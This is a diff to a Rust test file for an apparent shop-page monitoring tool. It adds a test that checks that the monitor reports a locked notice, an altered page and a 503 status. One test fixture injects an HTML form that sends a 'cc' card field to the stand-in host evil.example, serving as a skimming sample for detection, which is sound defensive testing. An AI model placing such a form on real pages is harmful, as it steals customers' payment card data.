@@ -3,7 +3,7 @@
 
 mod shop;
 
-use shop::{SCRIPT, Shop, pages, sign, start};
+use shop::{LOCKED, SCRIPT, Shop, pages, sign, start};
 use std::{
     collections::BTreeSet,
     net::TcpListener,
@@ -75,6 +75,29 @@ fn a_page_that_says_something_else_is_written_down_without_alarm() {
     assert!(rounds(&mut watch, ALL).is_empty());
     assert!(lines(dir.path(), "page") > before);
     assert_eq!(lines(dir.path(), "alarm"), 0);
+}
+
+#[test]
+fn a_locked_shop_says_so_on_the_page_that_was_signed_and_nothing_else() {
+    let (origin, shop) = start();
+    let dir = tempfile::tempdir().unwrap();
+    let mut watch = watch(&origin, dir.path());
+    let says = |notice: Option<String>| shop.lock().unwrap().notice = notice;
+    let signed = LOCKED.replace("{{origin}}", &origin).replace("{{reference}}", "AB12-34CD");
+    says(Some(signed.clone()));
+    // From a machine where nobody can be asked whether it is so, it is what is told.
+    let locked = Finding::Locked { closed: "payment".into(), by: "outside".into() };
+    assert_eq!(rounds(&mut watch, ALL), BTreeSet::from([locked]));
+    says(Some(signed.replace("locked", "<form action=\"https://evil.example/\"><input name=\"cc\"></form>")));
+    let found = rounds(&mut watch, ALL);
+    let is =
+        |f: &Finding| matches!(f, Finding::PageChanged { page, why } if page == "cart" && why == "notice");
+    assert!(found.iter().any(is), "{found:?}");
+    says(Some("<h1>503</h1>".into()));
+    let found = rounds(&mut watch, ALL);
+    assert!(found.iter().all(|f| matches!(f, Finding::Status { status: 503, .. })), "{found:?}");
+    says(None);
+    assert!(rounds(&mut watch, ALL).is_empty());
 }
 
 /// What somebody makes of the shop's answers, and what is found.
@@ -229,7 +252,7 @@ fn beats_and_ends() {
     let theirs = life.clone();
     let vault = vault_api::Client::lazy(&dir.path().join("no-vault.sock"), vault_api::Role::Watch);
     let witness = watch::witness::Config::new(dir.path().join("witness"));
-    let ledger = watch::Ledger { vault: Arc::new(vault), witness, relay: None };
+    let ledger = watch::Ledger::Here { vault: Arc::new(vault), witness, relay: None };
     let running = std::thread::spawn(move || {
         watch::run(config, watch::Inside::default(), ledger, &watch::tell::Config::default(), theirs)
     });
